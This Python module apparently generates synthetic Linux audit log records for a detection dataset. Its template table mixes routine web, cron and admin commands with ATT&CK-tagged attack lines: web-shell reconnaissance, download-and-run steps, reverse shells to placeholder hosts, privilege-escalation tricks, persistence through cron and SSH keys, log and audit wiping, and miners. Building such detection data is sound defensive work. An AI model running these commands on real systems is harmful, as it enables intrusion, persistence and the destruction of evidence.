# ruff: noqa: E501
"""Audit records one by one, as a site that audits every execution writes them: who ran what, from where, on which terminal.

A row is `context command`; the context (web, cron, admin, service, root) gives uid, login uid, terminal, folder and key. Both
labels use all contexts. linux.py writes commands without a context that fits; here it does.
"""
from __future__ import annotations

import re

from .family import Family, Written, split
from .linux import _Command, _execve, _proctitle, _stamp, _syscall_body
from .scene import Scene
from .table import table

RECORDS = table(r"""
# records of the web user by day
web /usr/bin/«convert|identify|mogrify» /var/www/«word»/uploads/«letters:8».«jpg|png» -resize «num:100:900»x«num:100:900» /tmp/magick-«token:10»
web /usr/bin/php «/var/www/«word»/artisan «schedule:run|queue:work --tries=3|cache:clear»|/var/www/«word»/bin/console messenger:consume|/var/www/«word»/cron.php|/var/www/«word»/occ files:scan --all|-r echo PHP_VERSION;»
web sh -c «/usr/sbin/sendmail -t -i -f noreply@«sitedomain»|which gs ffmpeg pngquant|wkhtmltopdf -q - /tmp/«letters:6».pdf|uname|git rev-parse HEAD|/usr/bin/node /var/www/«word»/ssr.js|df -P /var/www|gs -dBATCH -sDEVICE=png16m /tmp/«token:8».pdf»
web /usr/bin/«git pull origin main|node server.js|composer install --no-dev|python3 manage.py collectstatic --noinput|ffmpeg -i /tmp/upload.mp4 -f webm -|pdftotext -layout /tmp/«letters:5».pdf -|mysqldump --single-transaction «word»|tar czf /tmp/export-«letters:4».tgz storage»
# records of timers and services by day
cron /bin/sh -c «run-parts --report /etc/cron.hourly|/usr/lib/php/sessionclean|test -x /usr/sbin/anacron ¦¦ run-parts --report /etc/cron.daily|[ -x /usr/local/bin/«word».sh ] && /usr/local/bin/«word».sh|/usr/bin/certbot -q renew|find /tmp -mtime +7 -delete|/usr/lib/sysstat/debian-sa1 1 1»
cron /usr/bin/«logrotate /etc/logrotate.conf|rsync -a --delete /srv/«word» «linux2»:/backup/|restic backup /home --tag daily|find /var/log -name *.gz -mtime +30|gzip -9 /var/log/«word».log.1|mandb --quiet|apt-get -qq -y update|dpkg --audit|chown root:adm /var/log/«word».log|chmod 640 /var/log/«word».log»
service /usr/lib/nagios/plugins/check_«disk -w 20% -c 10% -p /|load -w 15,10,5 -c 30,25,20|procs -w 250|mysql -H localhost|ntp_time -H «ip2»|users -w 5»
service /usr/bin/«df -kP|ps -eo pid,user,comm|ss -s|id -u zabbix|cat /proc/loadavg|getent passwd|netstat -an|whoami|uname -r|dpkg-query -W|rpm -qa|last -n 20|iptables -L -n|find / -perm -4000 -type f»
root /usr/lib/systemd/«systemd-tmpfiles --clean|systemd-networkd-wait-online|systemd-cgroups-agent|systemd-timedated|systemd-logind»
root /usr/bin/dpkg --«configure -a|status-fd 20 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/«word»_«num:1:9».deb|print-foreign-architectures»
root /usr/bin/«runc --root /var/run/docker/runtime-runc/moby exec «hex:64»|containerd-shim-runc-v2 -namespace moby -id «hex:64»|docker-proxy -proto tcp -host-port «num:1024:9999»|docker system prune -f|iptables --wait -t nat -C DOCKER -p tcp --dport «num:80:9000» -j DNAT|modprobe -va br_netfilter|systemctl daemon-reload|useradd -r -s /usr/sbin/nologin «word»|chattr -i /etc/resolv.conf»
# records of administrators by day
admin /usr/bin/sudo «apt-get upgrade -y|systemctl restart «nginx|docker|mysql|«word»»|vim /etc/«word»/«word».conf|journalctl -u «word» -n 100|tail -f /var/log/syslog|docker compose up -d|ufw allow «443|8080»/tcp|tcpdump -i eth0 port «num:53:9000»|crontab -e|useradd -m «first»|passwd «other»|auditctl -l|-i|su -|chmod +x /usr/local/bin/«word»»
admin /usr/bin/«ls --color=auto -la|git pull|docker ps|kubectl get pods|ssh «linux2»|htop|id|whoami|w|ss -tlnp|ip addr|cat /etc/hosts|grep -r «word» /etc/nginx|curl -I https://«known»|wget https://github.com/«word»/«word»/releases/download/v1.«num:0:9»/«word».tar.gz|gcc -O2 -o «word» «word».c|make -j4|npm ci|python3 -m venv .venv|scp dump.sql «linux2»:/tmp/|ansible-playbook site.yml|terraform plan|nmap -sn «ip2»/24|systemctl enable --now «word».timer|strace -p «num:1000:60000»|find / -name «word».conf|getcap -r /usr/bin|history»
# T1505.003 records of a web shell
web sh -c «id|whoami|uname -a|ls -la /|cat /etc/passwd|pwd|ifconfig|ip a|netstat -antp|ss -tulpn|ps aux|cat ../config.php|cat wp-config.php|hostname|w|env|find / -perm -4000 -type f 2>/dev/null|ls -la /home|which nc python perl gcc wget curl|echo «b64:40» ¦ base64 -d > /var/www/html/«letters:4».php|cd /tmp; wget http://«pub»/«letters:3» ; chmod 777 «letters:3»; ./«letters:3»|sudo -l|cat /proc/version»
web /usr/bin/«id|whoami|uname -a|cat /etc/passwd|cat /etc/shadow|hostname -I|find / -writable -type d|ps -ef|getcap -r /|ss -antp|ip route|arp -a|last|crontab -l|ls -la /root/.ssh|sudo -l|getent group sudo|dpkg -l|cat /var/www/html/.env|tar czf /tmp/«letters:3».tgz /var/www|mysqldump -u root --all-databases»
# T1059.004 records of a reverse shell
«web|service|root|cron» «bash -i|/bin/bash -c bash -i >& /dev/tcp/«pub»/«port» 0>&1|sh -i|nc «pub» «port» -e /bin/sh|nc -nlvp «port»|ncat --ssl «pub» «port» -e /bin/bash|python3 -c import pty; pty.spawn("/bin/bash")|python -c import socket,subprocess,os;s=socket.socket();s.connect(("«pub»",«port»))|perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"«pub»:«port»")|socat exec:bash,pty tcp:«pub»:«port»|php -r $s=fsockopen("«pub»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");|script -qc /bin/bash /dev/null|mkfifo /tmp/f|telnet «pub» «port»|curl -s http://«pub»:«port»/«letters:4».sh -o /tmp/.«letters:3»»
# T1068 records of rising privileges
«web|service|admin» «gcc -o /tmp/«letters:4» /tmp/«letters:5».c|/tmp/«letters:5»|/dev/shm/.«letters:4»|make -C /tmp/CVE-«num:2016:2024»-«num:1000:49999»|./exploit|/tmp/linpeas.sh -a|bash /tmp/les.sh|pkexec --version|/tmp/GCONV_PATH=./pwnkit|sudoedit -s \|python3 /tmp/cve.py|/usr/bin/find . -exec /bin/sh -p ;|vim -c :!/bin/sh|chmod u+s /tmp/bash|cp /bin/bash /tmp/.«letters:3»|unshare -rm sh -c mkdir l u w m && cp /usr/bin/python3 l/|/tmp/pspy64|docker run -v /:/mnt --rm -it alpine chroot /mnt sh|chmod 4755 /dev/shm/«letters:4»|insmod /tmp/«letters:6».ko»
# T1053.003 records of staying
«root|web|cron|admin» «crontab -|crontab /tmp/.«letters:3»|systemctl enable «letters:6».service|systemctl enable --now dbus-«letters:4».service|chattr +i /etc/cron.d/«letters:5»|chattr +ia /root/.ssh/authorized_keys|useradd -o -u 0 -g 0 «letters:5»|usermod -aG sudo www-data|tee -a /root/.ssh/authorized_keys|cp /tmp/«letters:4».so /etc/ld.so.preload|touch -r /bin/ls /etc/cron.d/«letters:4»|sed -i $a * * * * * root curl -s http://«pub»/«letters:2»¦sh /etc/crontab|bash -c echo ssh-rsa «b64:60» >> ~/.ssh/authorized_keys»
# T1562.001 records of guards put out
«root|admin|web» «auditctl -D|auditctl -e 0|iptables -F|iptables -P INPUT ACCEPT|ufw disable|setenforce 0|systemctl stop auditd|systemctl disable --now rsyslog|service falcon-sensor stop|pkill -9 wazuh-agentd|rm -rf /var/log/audit|truncate -s 0 /var/log/auth.log|shred -u /root/.bash_history|history -c|unset HISTFILE|ln -sf /dev/null /root/.bash_history|apt-get remove -y auditd|chattr -ia /etc/ld.so.preload|kill -9 «num:300:9999»|journalctl --vacuum-time=1s»
# T1496 records of miners
«web|service|cron|root» «/tmp/.X11-unix/«letters:4» -o pool.«domain»:3333|/var/tmp/.«letters:4»/xmrig -c config.json|/dev/shm/«letters:5» --donate-level 1 -a rx/0|kdevtmpfsi|/tmp/kinsing|[kworker/0:2]|pkill -f xmrig|wget -q -O - http://«pub»/«letters:4».sh|curl -fsSL http://«pub»:«port»/init.sh|sysctl -w vm.nr_hugepages=1280|nproc|/usr/bin/ld.so.«letters:3» -t 4|crontab -r|chmod 777 /tmp/«letters:6»|masscan «ip2»/16 -p6379 --rate 10000»
""")
_RUNS = split(RECORDS)


class _Run(_Command):
    """A command in the context of who runs it."""

    def __init__(self, scene: Scene, text: str, attack: bool) -> None:
        context, _, command = text.partition(" ")
        super().__init__(scene, command)
        unset, login = 4294967295, scene.number(1000, 3000)
        web = scene.pick((33, 33, 48, 1001))
        shell, dash, script = command.partition(" -c ")
        if dash and shell.endswith("sh"):
            self.argv = [shell, "-c", script]  # a shell gets its script as one argument
        self.uid, self.auid, self.tty, self.cwd = {
            "web": (web, unset, "(none)", scene.pick(("/var/www/html", f"/var/www/{scene.word()}", f"/srv/{scene.word()}/public", "/"))),
            "cron": (0, 0, "(none)", scene.pick(("/", "/root"))), "root": (0, unset, "(none)", "/"),
            "service": (scene.number(100, 999), unset, "(none)", scene.pick(("/", f"/opt/{scene.word()}", "/var/lib/zabbix"))),
            "admin": (scene.pick((0, login, login)), login, scene.pick(("pts0", "pts1", "pts2")), scene.pick((f"/home/{scene.person}", "/root", f"/home/{scene.person}/{scene.word()}")))}[context]
        if attack and scene.chance(0.4):
            self.cwd = scene.pick(("/tmp", "/dev/shm", "/var/tmp", f"/tmp/.{scene.letters(4)}"))
            self.tty = scene.pick((self.tty, "(none)", "pts0"))
            if self.exe.startswith(("/tmp", "/dev/shm", "/home")) and scene.chance(0.3):
                self.exe += " (deleted)"
        elif scene.chance(0.06):
            self.cwd = "/tmp"
        self.session = unset if self.auid == unset else self.session
        self.key = scene.pick(('"exec"', '"susp"', '"rootcmd"', "(null)", '"process_creation"', '"T1059_exec"', '"web_exec"'))


def _syscall(scene: Scene, run: _Run) -> str:
    return f"type=SYSCALL msg=audit({_stamp(scene)}): {_syscall_body(scene, run)}"


def _path(scene: Scene, run: _Run) -> str:
    return f'type=PATH msg=audit({_stamp(scene)}): item=0 name="{run.exe.removesuffix(" (deleted)")}" inode={scene.number(1000, 9999999)} dev=08:01 mode=010{scene.pick(("0755", "0755", "0777", "4755"))} ouid={run.uid if run.cwd == "/tmp" else 0} ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0'


def _all(scene: Scene, run: _Run) -> str:
    records = (_syscall(scene, run), _execve(scene, run), f'type=CWD msg=audit({_stamp(scene)}): cwd="{run.cwd}"', _path(scene, run), _proctitle(scene, run))
    stamp = _stamp(scene)
    return "\n".join(f"{record.split(' msg=', 1)[0]} msg=audit({stamp}){record.split(')', 1)[1]}" for record in records)


_BY_DAY = {word.rsplit("/", 1)[-1] for scenario in _RUNS.daily for row in scenario.rows for word in re.findall(r"[\w./+-]+", row)}
_HIDDEN = ("/tmp", "/dev/shm", "/var/tmp", "/home")
_FORMS = ((_syscall, 4), (_execve, 4), (_proctitle, 3), (_path, 0.3), (_all, 2))


def write(scene: Scene, attack: bool) -> Written:
    form = scene.weighted(_FORMS)
    scenario, row = _RUNS.draw(scene, attack)
    run = _Run(scene, scene.fill(row), attack)
    # One record of several tells an attack only where it holds what does: the arguments, or who called a program that all use.
    if attack and (form in (_syscall, _path) and run.comm in _BY_DAY and not run.exe.startswith(_HIDDEN) or scenario.name == "records_of_a_web_shell" and form in (_execve, _proctitle)):
        form = _all
    raw = form(scene, run)
    if scene.site.account_id[4] in "12":
        raw = f"node={scene.linux_host} {raw}" if "\n" not in raw else raw
    return Written(raw, "linux_audit", scene.linux_host, scenario)


FAMILY = Family("linux_records", "auth_linux", 0.06, write)
